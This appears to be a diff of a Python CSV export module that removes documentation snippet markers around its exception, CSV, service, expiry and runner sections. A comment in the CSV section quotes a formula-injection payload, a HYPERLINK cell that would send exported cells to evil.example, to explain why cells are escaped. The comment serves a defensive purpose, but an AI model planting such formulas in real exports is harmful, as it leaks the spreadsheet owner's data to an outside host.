@@ -53,7 +53,6 @@ GAVE_UP: Final = "The database did not answer, {attempts} times. Ask for a new e
 UNEXPECTED: Final = "The export failed. Quote the job id when you report it."
 
 
-# --8<-- [start:exceptions]
 class ExportNotFoundError(NotFoundError):
     """No export job with this id belongs to the acting user."""
 
@@ -103,10 +102,6 @@ class ExportQuotaExceededError(TooManyAttemptsError):
         super().__init__(retry_after, attempts="exports held")
 
 
-# --8<-- [end:exceptions]
-
-
-# --8<-- [start:csv]
 # A spreadsheet runs a cell that starts with one of these as a formula. A task titled
 # =HYPERLINK("https://evil.example/?"&A2, "Details") would become a link that sends the
 # cells of the export away, one click after the owner opens it in Excel or LibreOffice
@@ -134,9 +129,6 @@ def render_csv(rows: Iterable[Sequence[object]]) -> str:
 
 def _text(value: object) -> str:
     return value.isoformat() if isinstance(value, datetime) else str(value)
-
-
-# --8<-- [end:csv]
 
 
 # --8<-- [start:quota]
@@ -192,7 +184,6 @@ class ExportFile:
     content: str
 
 
-# --8<-- [start:service]
 class ExportService:
     """The exports of the acting user: ask for one, see how it goes, download it.
 
@@ -360,9 +351,6 @@ class ExportService:
         return _without_file(select(ExportJob))
 
 
-# --8<-- [end:service]
-
-
 def _without_file(query: SelectOfScalar[ExportJob]) -> SelectOfScalar[ExportJob]:
     # The CSV can be megabytes: reading a job's status must not load it. raiseload: code that
     # reads it anyway fails in the tests, instead of loading it quietly. (On the class, a
@@ -379,7 +367,6 @@ async def discard_export(session: AsyncSession, job_id: uuid.UUID) -> None:
     await session.exec(statement)
 
 
-# --8<-- [start:expired]
 async def delete_finished_exports(
     session: AsyncSession, *, before: datetime, owner_id: int | None = None
 ) -> int:
@@ -430,10 +417,6 @@ async def sweep_expired_exports(
     return deleted
 
 
-# --8<-- [end:expired]
-
-
-# --8<-- [start:runner]
 class ExportRunner:
     """Run export jobs to their end, outside any request: what a worker does with a job.
 
@@ -556,6 +539,3 @@ async def _task_rows(session: AsyncSession, project_id: int) -> list[tuple[objec
     )
     connection = await session.connection()
     return [tuple(row) for row in await connection.execute(query)]
-
-
-# --8<-- [end:runner]
